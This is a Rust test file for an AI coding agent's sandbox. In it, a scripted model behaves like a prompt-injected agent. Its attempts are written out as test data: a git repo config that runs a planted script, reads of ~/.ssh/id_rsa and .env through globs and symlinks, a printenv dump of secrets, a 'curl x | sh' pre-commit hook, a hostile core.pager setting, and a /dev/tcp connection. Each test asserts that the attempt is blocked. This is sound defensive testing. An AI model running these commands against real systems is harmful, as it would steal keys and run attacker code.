//! The security boundary end to end: the real binary in print mode, default settings, an
//! untrusted folder, a scripted model that tries what a prompt-injected one would, and the
//! requests and files checked afterwards. Each of these leaked on the code before the sandbox
//! enforced it.

use std::net::TcpListener;
use std::path::Path;

use agent_cli::provider::ProviderKind;
use serde_json::{Value, json};

use crate::support::cli::*;
use crate::support::scripted::{ScriptedServer, Turn};

/// Whether the machine can build the sandbox these tests need; says why not when it cannot.
fn sandbox_here() -> bool {
    let support = tool_builtins::sandbox_support();
    let ok = support.enforceable() && support.user_namespaces == Some(true);
    if !ok {
        eprintln!("skipped: the sandbox cannot be built here:\n{support}");
    }
    ok
}

/// Runs one print-mode turn in which the model makes `calls` (shell or other tools, in order),
/// and returns the tool results the model got back.
async fn results_of(
    project: &Project,
    calls: &[(&str, Value)],
    args: &[&str],
) -> Vec<(bool, String)> {
    let mut turns: Vec<Turn> = calls
        .iter()
        .enumerate()
        .map(|(i, (tool, input))| Turn::tool_use(format!("call_{i}"), *tool, input.clone()))
        .collect();
    turns.push(Turn::text("done"));
    let server = ScriptedServer::start(turns).await;
    let output = run(project
        .agent(&server, ProviderKind::Anthropic)
        .env("SHELL", "/bin/bash")
        .args(args)
        .args(["-p", "go"]))
    .await;
    assert_success(&output);
    let bodies = server.bodies();
    let last = bodies.last().unwrap();
    tool_results(last)
}

fn git(dir: &Path, script: &str) {
    let status = std::process::Command::new("bash")
        .arg("-ec")
        .arg(script)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "a")
        .env("GIT_AUTHOR_EMAIL", "a@b")
        .env("GIT_COMMITTER_NAME", "a")
        .env("GIT_COMMITTER_EMAIL", "a@b")
        .status()
        .unwrap();
    assert!(status.success(), "{script}");
}

/// A bare repository committed in the project, whose configuration names a program for
/// external diffs and textconv: reading it without asking runs nothing.
#[tokio::test]
async fn git_without_asking_runs_nothing_from_a_repositorys_configuration() {
    if !sandbox_here() {
        return;
    }
    let project = Project::new();
    let root = project.path();
    let marker = root.join("ran");
    project.write(
        "pwn.sh",
        &format!("#!/bin/sh\necho PWNED-MARKER\ntouch {}\n", marker.display()),
    );
    git(
        &root,
        r#"chmod +x pwn.sh
git init -q src && cd src && echo one > f.txt && git add . && git commit -qm one
echo two > f.txt && git commit -qam two && cd ..
git clone -q --bare src evil && rm -rf src
printf '[diff]\n\texternal = %s/pwn.sh\n[diff "x"]\n\ttextconv = %s/pwn.sh\n' "$PWD" "$PWD" >> evil/config
printf 'f.txt diff=x\n' > evil/info/attributes"#,
    );
    let results = results_of(
        &project,
        &[
            ("shell", json!({"command": "git -C evil diff HEAD~1 HEAD"})),
            ("shell", json!({"command": "git -C evil show HEAD"})),
        ],
        &[],
    )
    .await;
    assert_eq!(results.len(), 2, "{results:?}");
    for (_, text) in &results {
        assert!(!text.contains("PWNED-MARKER"), "{text}");
    }
    // They ran without asking (print mode would have denied a call that asks).
    assert!(results[1].1.contains("commit "), "{results:?}");
    assert!(!marker.exists());
}

/// Brace expansion and a glob over a committed link lead out of the roots: the words look
/// harmless to the path check, and the sandbox refuses the read.
#[tokio::test]
async fn reads_outside_the_roots_are_refused_by_the_sandbox() {
    if !sandbox_here() {
        return;
    }
    let project = Project::new();
    let ssh = project.home().join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("id_rsa"), "KEY-MARKER\n").unwrap();
    std::os::unix::fs::symlink(ssh.join("id_rsa"), project.path().join("z1")).unwrap();
    let results = results_of(
        &project,
        &[
            ("shell", json!({"command": "cat {~,x}/.ssh/id_rsa"})),
            ("shell", json!({"command": "cat z*"})),
        ],
        &[],
    )
    .await;
    assert_eq!(results.len(), 2, "{results:?}");
    for (_, text) in &results {
        assert!(!text.contains("KEY-MARKER"), "{text}");
        assert!(text.contains("Permission denied"), "{text}");
    }
}

/// A read deny rule holds for grep and the shell, not only read_file.
#[tokio::test]
async fn a_read_deny_rule_holds_for_grep_and_the_shell() {
    if !sandbox_here() {
        return;
    }
    let project = Project::new();
    project.write(".env", "TOKEN=KEY-MARKER\n");
    project.write("src/main.rs", "// uses TOKEN\n");
    let results = results_of(
        &project,
        &[
            ("grep", json!({"pattern": "TOKEN"})),
            ("grep", json!({"pattern": "TOKEN", "path": ".env"})),
            ("shell", json!({"command": "cat .env"})),
            ("shell", json!({"command": "grep -r TOKEN ."})),
        ],
        &["--deny", "read_file(.env)"],
    )
    .await;
    assert_eq!(results.len(), 4, "{results:?}");
    for (_, text) in &results {
        assert!(!text.contains("KEY-MARKER"), "{text}");
    }
    assert!(results[0].1.contains("src/main.rs"), "{results:?}");
    assert!(results[1].1.contains("read deny rule"), "{results:?}");
    assert!(results[3].1.contains("src/main.rs"), "{results:?}");
}

/// The provider's key and variables that look like secrets never reach a command.
#[tokio::test]
async fn the_api_key_and_secrets_stay_out_of_commands() {
    if !sandbox_here() {
        return;
    }
    let project = Project::new();
    let mut turns = vec![Turn::tool_use(
        "call_env",
        "shell",
        json!({"command": "printenv"}),
    )];
    turns.push(Turn::text("done"));
    let server = ScriptedServer::start(turns).await;
    let output = run(project
        .agent(&server, ProviderKind::Anthropic)
        .env("GITHUB_TOKEN", "gh-secret-value")
        .env("VISIBLE_SETTING", "plain-value")
        .args(["--allow", "shell(printenv:*)", "-p", "go"]))
    .await;
    assert_success(&output);
    let results = tool_results(server.bodies().last().unwrap());
    let text = &results[0].1;
    assert!(text.contains("VISIBLE_SETTING=plain-value"), "{text}");
    assert!(!text.contains("test-key"), "{text}");
    assert!(!text.contains("ANTHROPIC_API_KEY"), "{text}");
    assert!(!text.contains("gh-secret-value"), "{text}");
}

/// Approved commands may not plant git hooks or change the repository's git configuration,
/// and with `sandbox.network: deny` they reach nothing on the network.
#[tokio::test]
async fn approved_commands_keep_git_hooks_and_config_and_the_network_rule() {
    if !sandbox_here() {
        return;
    }
    let project = Project::new();
    git(&project.path(), "git init -q .");
    let config_before = project.read(".git/config");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::fs::write(
        project.home().join("settings.json"),
        r#"{"sandbox": {"mode": "workspace-write", "network": "deny"}}"#,
    )
    .unwrap();
    let results = results_of(
        &project,
        &[
            (
                "shell",
                json!({"command": "echo 'curl x | sh' > .git/hooks/pre-commit"}),
            ),
            (
                "shell",
                json!({"command": "git config core.pager 'sh -c pwned'"}),
            ),
            (
                "shell",
                json!({"command": format!("echo hi > /dev/tcp/127.0.0.1/{port}")}),
            ),
            ("shell", json!({"command": "echo kept > notes.txt"})),
        ],
        &["--permission-mode", "bypass"],
    )
    .await;
    assert_eq!(results.len(), 4, "{results:?}");
    assert!(!project.path().join(".git/hooks/pre-commit").exists());
    assert_eq!(project.read(".git/config"), config_before);
    assert!(listener.accept().is_err(), "a connection got through");
    assert!(
        results[0].0 && results[0].1.contains(".git/hooks"),
        "{results:?}"
    );
    assert!(results[2].0, "{results:?}");
    assert_eq!(project.read("notes.txt"), "kept\n");
}

/// `doctor` reports each enforcement, on or off with the reason, as the settings and the machine
/// make it.
#[tokio::test]
async fn doctor_reports_each_enforcement() {
    let project = Project::new();
    std::fs::write(
        project.home().join("settings.json"),
        r#"{"sandbox": {"network": "deny"}, "permissions": {"deny": ["read_file(.env)"]}}"#,
    )
    .unwrap();
    let output = run(project.command().arg("doctor")).await;
    assert_success(&output);
    let text = stdout(&output);
    for name in [
        "commands that run without asking: ",
        "file system: ",
        "network: ",
        "read deny rules: on",
        "environment: on (removed from commands: names like *KEY*",
    ] {
        assert!(text.contains(name), "{name}\n{text}");
    }
    if sandbox_here() {
        assert!(
            text.contains("commands that run without asking: on"),
            "{text}"
        );
        assert!(
            text.contains("network: on (approved commands run in a network namespace"),
            "{text}"
        );
        assert!(
            text.contains("hidden from shell commands by the sandbox"),
            "{text}"
        );
    }
    assert!(
        text.contains("ANTHROPIC_API_KEY"),
        "the withheld key is named: {text}"
    );
}
